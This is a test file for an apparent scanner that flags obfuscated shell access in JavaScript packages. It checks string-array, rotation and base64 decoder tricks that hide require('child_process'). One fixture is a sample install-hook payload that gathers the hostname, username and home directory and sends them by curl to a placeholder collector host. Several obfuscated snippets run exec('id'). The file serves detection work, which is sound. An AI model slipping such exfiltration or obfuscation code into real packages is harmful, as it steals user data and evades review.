/**
 * String-array obfuscators: a literal array, a rotation run once at load time and a decoder function
 * (what javascript-obfuscator and its forks emit) hiding `require('child_process')`. The engine runs the
 * array, the rotation and the decoder in its bounded partial evaluator (never the package's code itself);
 * a decoder that does not finish within the step budget leaves the site unresolved, never dropped. The
 * javascript-obfuscator fixtures are generated at test time.
 */
import { OBFUSCATOR_PRESETS, obfuscate } from '../../helpers/obfuscators.js';
import { testEvasionClass, type FlagCase } from '../../helpers/evasion-tester.js';

/** What a malicious install hook does, in plain code (as in obfuscation-tools.test.ts). */
const PAYLOAD = `const cp = require('child_process');
const os = require('os');
function collect() {
  const info = { host: os.hostname(), user: os.userInfo().username, home: process.env.HOME };
  return Buffer.from(JSON.stringify(info)).toString('base64');
}
cp.exec('curl -s https://collector.invalid/c -d ' + collect(), (err, out) => {
  if (err) return;
  console.log(out);
});
`;

/** The obfuscated payload at a preset; the literal `require('child_process')` must be gone from it. */
function obfuscatedPayload(preset: string): string {
  const code = obfuscate(PAYLOAD, { optionsPreset: preset });
  if (code.includes("require('child_process')")) throw new Error(`${preset}: the fixture does not hide the require`);
  return code;
}

const presetCases: FlagCase[] = OBFUSCATOR_PRESETS.map((preset) => ({
  name: `javascript-obfuscator ${preset}: shell, nothing unresolved`,
  code: obfuscatedPayload(preset),
  module: 'cjs',
  capabilities: ['shell', 'dynamic-require'],
  findings: [
    { capability: 'shell', line: 1, api: 'child_process' },
    { capability: 'shell', line: 1, api: 'child_process.exec' },
  ],
}));

testEvasionClass('string-array obfuscators', {
  flags: [
    ...presetCases,
    {
      code: "var _0x51c4=['exec','child_process','id'];var _0x5e3a=function(_0x6f1b){return _0x51c4[_0x6f1b-0x0];};\nrequire(_0x5e3a(0x1))[_0x5e3a(0x0)](_0x5e3a(0x2));",
      module: 'cjs',
      findings: [
        { capability: 'shell', line: 2, column: 1, api: 'child_process', confidence: 'medium' },
        { capability: 'shell', line: 2, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      name: 'rotation IIFE, string indices coerced by the decoder',
      code: "var a=['child_process','id','exec'];(function(b,c){var d=function(e){while(--e){b['push'](b['shift']());}};d(++c);}(a,0x1));var f=function(g){g=g-0x0;var h=a[g];return h;};\nrequire(f('0x2'))[f('0x1')](f('0x0'));",
      module: 'cjs',
      findings: [
        { capability: 'shell', line: 2, column: 1, api: 'child_process', confidence: 'medium' },
        { capability: 'shell', line: 2, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      name: 'a base64 decoder over the array',
      code: "const t=['Y2hpbGRfcHJvY2Vzcw==','ZXhlYw=='];function d(i){return Buffer.from(t[i],'base64').toString();}\nrequire(d(0))[d(1)]('id');",
      module: 'cjs',
      findings: [
        { capability: 'shell', line: 2, column: 1, api: 'child_process', confidence: 'medium' },
        { capability: 'shell', line: 2, column: 1, api: 'child_process.exec', confidence: 'medium' },
      ],
    },
    {
      name: 'a decoder that never finishes: unresolved once the step budget is spent',
      code: "var a=['child_process'];function d(i){var n=0;while(n>=0)n++;return a[i];}\nrequire(d(0)).exec('id');",
      module: 'cjs',
      findings: [{ capability: 'dynamic-require', line: 2, column: 1, api: 'require(…)', confidence: 'low' }],
    },
    {
      name: 'a decoder that depends on the clock: unresolved',
      code: "var a=['child_process','fs'];function d(i){return a[(i+Date.now())%2];}\nrequire(d(0));",
      module: 'cjs',
      findings: [{ capability: 'dynamic-require', line: 2, column: 1, api: 'require(…)', confidence: 'low' }],
    },
  ],
  clean: [
    {
      name: 'javascript-obfuscator default on harmless code: its require resolves to a module with no capability',
      code: obfuscate("const path = require('path');\nconsole.log(path.join('a', 'b'));\n", { optionsPreset: 'default', stringArrayThreshold: 1 }),
      module: 'cjs',
    },
    { code: "var names=['a','b'];function pick(i){return names[i];}\nrequire('./' + pick(0));", module: 'cjs' },
    "var keys=['log','warn'];function k(i){return keys[i];}\nconsole[k(0)]('x');",
    "const codes=['ok','fail'];const label=(i)=>codes[i];\nexport const status = label(0);",
  ],
});
